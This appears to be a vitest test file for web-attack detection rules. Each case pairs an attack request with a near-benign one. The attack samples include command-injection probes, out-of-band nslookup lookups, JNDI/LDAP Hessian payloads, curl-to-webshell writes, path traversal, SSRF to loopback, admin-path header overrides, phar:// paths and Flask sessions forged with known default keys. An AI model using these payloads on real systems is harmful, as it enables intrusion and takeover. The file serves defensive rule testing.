/**
 * Bundled rules of rev 2026-12-05f (issue 18, session 15): mechanisms held-out-7's misses showed, written for
 * the class of exploit rather than the product. Each fires on its attack, sent the way the exploit sends it,
 * and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { flaskSession } from '../inspect/decoders/flask-cookie.js';
import type { RequestSpec } from './fixtures.js';
import { form, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const path = (url: string): RequestSpec => ({ url });
const pingback = (url: string): RequestSpec => xml(`<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>${url}</string></value></param><param><value><string>https://blog.example.test/?p=12</string></value></param></params></methodCall>`, '/xmlrpc.php');

const hessian = (body: string): RequestSpec => ({ method: 'POST', url: '/hessian/UserService', headers: [['Host', 'app.example.test'], ['Content-Type', 'application/x-hessian']], body });
const yaml = (body: string): RequestSpec => ({ method: 'POST', url: '/api/v1/flows', headers: [['Host', 'app.example.test'], ['Content-Type', 'application/x-yaml']], body });

const CASES: RuleCase[] = [
  [9000325, 'block', 'exec= echoing a random marker in the query', q('exec=echo%20uq7WIxX'), q('exec=echo%20hello')],
  [9000326, 'block', 'a settings command key (…Command) holding a bare probe', json('{"server":{"commands":{"serverRestartCommand":"whoami"}}}'), json('{"server":{"commands":{"serverRestartCommand":"sudo service octoprint restart"}}}')],
  [9000326, 'block', 'a workflow command echoing a random marker', json('{"parameters":{"command":"echo JNuwpLBC5"},"type":"n8n-nodes-base.executeCommand"}'), json('{"parameters":{"command":"echo Deploying"},"type":"n8n-nodes-base.executeCommand"}')],
  [9000326, 'block', 'a YAML commands list whose item is a bare probe', yaml('id: etl\nnamespace: company.team\ntasks:\n  - id: run\n    type: io.kestra.plugin.scripts.shell.Commands\n    commands:\n      - ifconfig\n'), yaml('id: etl\nnamespace: company.team\ntasks:\n  - id: run\n    type: io.kestra.plugin.scripts.shell.Commands\n    commands:\n      - make test\n')],
  [9000326, 'block', 'a percent-encoded JSON rawScript in a form, shebang then ls -la /tmp', form('taskDefinitionJson=%5B%7B%22taskParams%22%3A%7B%22rawScript%22%3A%22%23!%2Fbin%2Fbash%5Cnls+-la+%2Ftmp%22%7D%7D%5D'), form('taskDefinitionJson=%5B%7B%22taskParams%22%3A%7B%22rawScript%22%3A%22%23!%2Fbin%2Fbash%5Cnls+-la+data%22%7D%7D%5D')],
  [9000326, 'block', 'a script source downloading into a hidden /tmp file', json('{"script":{"image":"alpine:3","source":"curl -fsSL -o /tmp/.x http://dl.example.test/d0.bin"}}'), json('{"script":{"image":"alpine:3","source":"curl -fsSL -o /tmp/report.json https://api.example.test/report"}}')],
  // rev 3: the script of an exec-form sh -c array, an entrypoint, a value that is a shebang script.
  // 9000326 rev 5 (fp28, session 28): a cluster-internal name is no out-of-band lookup (blind benign set 4's cloud/12, read: a debug pod's
  // nslookup of a service before fetching its health check); an outside name after the same kind of internal one still blocks.
  [9000326, 'block', 'a pod command looking up an outside name', json('{"spec":{"containers":[{"name":"debug","command":["sh","-c","nslookup x9k2.oast.example.com && wget -qO- http://api.web.svc.cluster.local:8080/healthz"]}]}}'), json('{"spec":{"containers":[{"name":"debug","command":["sh","-c","nslookup orders-db.web.svc.cluster.local && wget -qO- http://api.web.svc.cluster.local:8080/healthz"]}]}}')],
  [9000326, 'block', 'a check looking up a name under a domain that merely holds local', json('{"Check":{"Args":["/bin/sh","-c","nslookup a1.svc.cluster.local.oast.fun"]}}'), json('{"Check":{"Args":["/bin/sh","-c","nslookup vault.service.consul"]}}')],
  [9000326, 'block', 'an exec-form health check running nslookup of an outside name', json('{"ID":"x1","Check":{"Args":["/bin/sh","-c","nslookup q1w2e3.oast.example.test"],"Interval":"10s"}}'), json('{"ID":"x1","Check":{"Args":["/bin/sh","-c","curl -fsS http://localhost:8080/health"],"Interval":"10s"}}')],
  [9000326, 'block', 'a job entrypoint echoing a random marker', json('{"entrypoint":"echo v8GTAsG5WU","runtime_env":{}}'), json('{"entrypoint":"python train.py --epochs 3","runtime_env":{}}')],
  [9000326, 'block', 'a form value that is a shebang script listing /tmp', form('_csrf=abc&content=%23!%2Fbin%2Fsh%0Als+-la+%2Ftmp%0A'), form('_csrf=abc&content=%23!%2Fbin%2Fsh%0Amake+deploy%0A')],
  [9001021, 'block', 'a Hessian call naming JdbcRowSetImpl with an LDAP data source', hessian('c\u0001\u0000m\u0000\u0004echoMt\u0000\u001dcom.sun.rowset.JdbcRowSetImplS\u0000\u000edataSourceNameS\u0000\u001fldap://203.0.113.9:1389/TLXhS\u0000\nautoCommitTzz'), hessian('c\u0001\u0000m\u0000\u0004echoMt\u0000\u0019com.example.dto.UserQueryS\u0000\u0004nameS\u0000\u0005aliceS\u0000\u0004homeS\u0000\u0017https://www.example.testzz')],
  [9001021, 'block', 'a Hessian call with Spring\'s JNDI bean factory and an RMI name', hessian('c\u0001\u0000m\u0000\u0004echoMt\u0000Aorg.springframework.aop.support.DefaultBeanFactoryPointcutAdvisorS\u0000\u000eadviceBeanNameS\u0000$rmi://files.example.test:1099/9kCzz'), json('{"docs":"Hessian endpoints must not accept org.springframework.jndi.support.SimpleJndiBeanFactory or ldap://x"}')],
  [9000331, 'block', 'a backtick command writing its output into a .php under htdocs', form('user=%60echo+%24(curl+http%3A%2F%2F203.0.113.9%2Fa)+%3E+%2Fvar%2Fappweb%2Fhtdocs%2Funauth%2Fx.php%60&userRole=superuser'), json('{"body":"To test PHP, run echo \\"<?php phpinfo();\\" > /var/www/html/info.php on the server."}')],
  [9000331, 'block', 'a $( ) substitution redirected into webapps/ROOT as a .jsp', json('{"name":"$(id > /opt/tomcat/webapps/ROOT/i.jsp)"}'), json('{"cmd":"$(date) > /var/log/app/run.log"}')],
  [9000411, 'block', 'an alias location read past its trailing slash', path('/static../settings.py'), path('/static/css/site..min.css')],
  [9000411, 'block', 'an encoded slash after the two dots', path('/assets..%2f.env'), path('/releases/v1..v2/compare')],
  [9000528, 'block', 'a pingback source URL on 127.0.0.1 as an integer', pingback('http://2130706433:8080/server-status'), pingback('http://10.0.4.22:8080/server-status')],
  [9000528, 'block', 'an import URL naming loopback through a rebinding resolver', json('{"url":"http://a1b2.7f000001.rbndr.us:8055/","data":{"title":"x"}}'), json('{"url":"http://127.0.0.1:3001/webhooks/stripe","data":{"title":"x"}}')],
  [9000528, 'block', 'a localtest.me host in a form value', form('feed=http%3A%2F%2Fadmin.localtest.me%2F&save=1'), form('feed=https%3A%2F%2Fwww.meagerparsnip.io%2Frss&save=1')],
  [9001253, 'block', 'X-Original-URL routing a public request to /admin', header('X-Original-URL', '/admin/users/create?username=x&role=admin'), header('X-Forwarded-Prefix', '/admin')],
  [9001253, 'block', 'X-Rewrite-URL naming the actuator', header('X-Rewrite-URL', '/actuator/env'), header('X-Rewrite-URL', '/products/42')],
  [9001345, 'block', 'a phar:// path to an uploaded image in a form', form('template=phar%3A%2F%2Fuploads%2Favatars%2Fa1.jpg&action=import'), form('note=phar+files+are+PHP+archives&action=import')],
  [9001345, 'block', 'a phar:// path in a query value', q('path=phar:///tmp/phpA1b2/x.txt'), q('q=pharmacy%20near%20me')],
  [9001344, 'block', "a Superset session signed with the shipped default key (CVE-2023-27524)", header('Cookie', `session=${flaskSession('\x02\x01thisismyscretkey\x01\x02\\e\\y\\y\\h', { _user_id: 1, user_id: 1 })}`), header('Cookie', `session=${flaskSession('9f1c-a-key-only-this-deployment-has', { _user_id: 1, user_id: 1 })}`)],
  [9001344, 'block', 'a compressed session signed with the Docker example key', header('Cookie', `session=${flaskSession('thisISaSECRET_1234', { _user_id: 2, _fresh: true }, true)}; locale=en`), header('Cookie', `session=${flaskSession('thisISaSECRET_12345', { _user_id: 2, _fresh: true }, true)}; locale=en`)],
];

describe("bundled rules for held-out-7's exploit mechanisms (rev 2026-12-05f)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
